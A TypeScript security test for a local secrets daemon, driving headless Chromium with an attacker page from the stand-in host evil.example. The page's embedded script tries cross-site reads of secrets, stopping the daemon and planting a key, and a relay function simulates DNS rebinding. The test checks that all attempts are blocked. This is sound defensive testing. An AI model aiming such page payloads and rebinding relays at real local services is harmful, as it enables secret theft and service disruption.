// Attacks of a web page in a real Chromium: cross-site requests, and DNS rebinding.
import { existsSync, mkdirSync } from 'node:fs';
import { createServer, request, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { join } from 'node:path';
import t from 'tap';
import type { SecretList } from '../../../daemon/contract/types.ts';
import { listenOnLoopback } from '../../support/listen-on-loopback.ts';
import { forwardToSocket } from '../../support/platform.ts';
import { Sandbox, until } from '../../support/sandbox.ts';
import { skipUnlessRequired } from '../../support/skip-unless-required.ts';
import { openListener } from '../../support/tcp.ts';

const CHROMIUM = process.env['NF_ESCROW_TEST_CHROMIUM'] ?? '/usr/bin/chromium';

/** What the page of the attacker tries, and reports. `target` is the base of URLs. */
const ATTACK = `
  async function attack(target, token) {
    const found = {};
    const attempt = async (name, work) => {
      try { found[name] = String(await work()); } catch (error) { found[name] = 'failed'; }
    };
    const read = async (path, options) => {
      const answer = await fetch(target + path, options);
      return answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + (await answer.text());
    };
    const loads = (tag, property, path) => new Promise((resolve) => {
      const element = document.createElement(tag);
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('failed');
      element[property] = target + path;
      document.body.append(element);
    });
    const headers = { authorization: 'Bearer ' + token };
    await attempt('read', () => read('/v1/user/secrets'));
    await attempt('read with token', () => read('/v1/user/secrets', { headers }));
    await attempt('blind read', () => read('/v1/user/secrets', { mode: 'no-cors' }));
    await attempt('stop', () => read('/v1/daemon/stop', { method: 'POST', mode: 'no-cors' }));
    await attempt('stop with token', () => read('/v1/daemon/stop', { method: 'POST', headers }));
    await attempt('set', () => read('/v1/user/secrets/EVIL_KEY', { method: 'PUT', headers, body: '{"value":"evil value"}' }));
    await attempt('beacon', () => navigator.sendBeacon(target + '/v1/daemon/stop'));
    await attempt('script', () => loads('script', 'src', '/v1/openapi.json'));
    await attempt('image', () => loads('img', 'src', '/v1/health'));
    return found;
  }`;

const page = (
  targets: Record<string, string>,
  token: string,
): string => `<!doctype html><body><script>${ATTACK}
  (async () => {
    const targets = ${JSON.stringify(targets)};
    const results = {};
    for (const name of Object.keys(targets)) results[name] = await attack(targets[name], ${JSON.stringify(token)});
    await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  })();
</script></body>`;

type Results = Record<string, Record<string, string>>;

void t.test('web pages can neither read the API nor change anything', async (t) => {
  if (!existsSync(CHROMIUM)) {
    skipUnlessRequired(t, `${CHROMIUM} is not installed`);
    return;
  }
  const box = new Sandbox(t);
  const { port, token } = await openListener(box);
  const pid = await box.daemonPid();
  const closing: Server[] = [];
  t.teardown(() => {
    for (const server of closing) server.close();
  });
  const listen = (server: Server, at?: number, host?: string): Promise<number> => {
    closing.push(server);
    return listenOnLoopback(server, at, host);
  };
  // As a user may forward the socket, for example with socat. Then only the checks of the requests protect the API.
  const forwarded = Number(new URL(await forwardToSocket(t, box.socket)).port);
  const reached: string[] = [];
  const control = createServer((incoming, response) => {
    reached.push(`${String(incoming.method)} ${String(incoming.url)}`);
    response.end();
  });
  const controlPort = await listen(control);

  const attackFrom = async (victim: number): Promise<Results> => {
    let report: Results | undefined;
    const targets = {
      'cross-site': `http://127.0.0.1:${String(victim)}`,
      'cross-site by name': `http://localhost:${String(victim)}`,
      control: `http://127.0.0.1:${String(controlPort)}`,
      rebound: '', // the page's own origin, whose name now resolves to the daemon
    };
    const attacker = createServer((incoming, response) => {
      if (incoming.url === '/') response.setHeader('content-type', 'text/html').end(page(targets, token));
      else if (incoming.url === '/report')
        void textOf(incoming).then((text) => {
          report = JSON.parse(text) as Results;
          response.end();
        });
      else rebind(victim, incoming, response);
    });
    await listen(attacker, victim, '127.0.0.2');
    const profile = join(box.directory, `chromium-${String(victim)}`);
    mkdirSync(profile);
    const { child } = box.startProgram(CHROMIUM, [
      '--headless=new',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-dev-shm-usage',
      '--no-first-run',
      `--user-data-dir=${profile}`,
      '--host-resolver-rules=MAP evil.example 127.0.0.2',
      `http://evil.example:${String(victim)}/`,
    ]);
    const found = await until('the page reports', () => report);
    child.kill();
    await new Promise((resolve) => child.on('exit', resolve));
    return found;
  };

  for (const [name, victim] of [
    ['TCP listener', port],
    ['forwarded socket', forwarded],
  ] as const)
    await t.test(name, async (t) => {
      const found = await attackFrom(victim);
      for (const target of ['cross-site', 'cross-site by name']) {
        const { read, stop, ...others } = found[target] ?? {};
        t.equal(read, 'failed', 'a page cannot read a response');
        t.match(stop, /^(opaque|failed)$/);
        t.match(others, {
          'read with token': 'failed',
          'stop with token': 'failed',
          set: 'failed',
          script: 'failed',
          image: 'failed',
        });
      }
      for (const attempt of ['read', 'read with token', 'blind read', 'stop', 'stop with token', 'set'])
        t.match(found['rebound']?.[attempt], /^403 .*origin-forbidden/, `rebound: ${attempt}`);
      t.equal(await box.daemonPid(), pid, 'the daemon was not stopped');
      const { secrets } = JSON.parse((await box.http('GET', '/v1/user/secrets')).text) as SecretList;
      t.same(secrets, []);
    });
  t.ok(reached.includes('POST /v1/daemon/stop'), 'the same requests reach a server that checks nothing');
  t.ok(reached.includes('GET /v1/user/secrets'));
});

/** Passes a request on as the browser sends it to the new address of the page's name. */
function rebind(port: number, incoming: IncomingMessage, response: ServerResponse): void {
  const { method, url: path, headers } = incoming;
  const onward = request({ host: '127.0.0.1', port, method, path, headers }, (answer) => {
    response.writeHead(answer.statusCode ?? 0, answer.headers);
    answer.pipe(response);
  });
  onward.on('error', () => response.destroy());
  incoming.pipe(onward);
}

async function textOf(incoming: IncomingMessage): Promise<string> {
  let text = '';
  for await (const chunk of incoming.setEncoding('utf8')) text += String(chunk);
  return text;
}
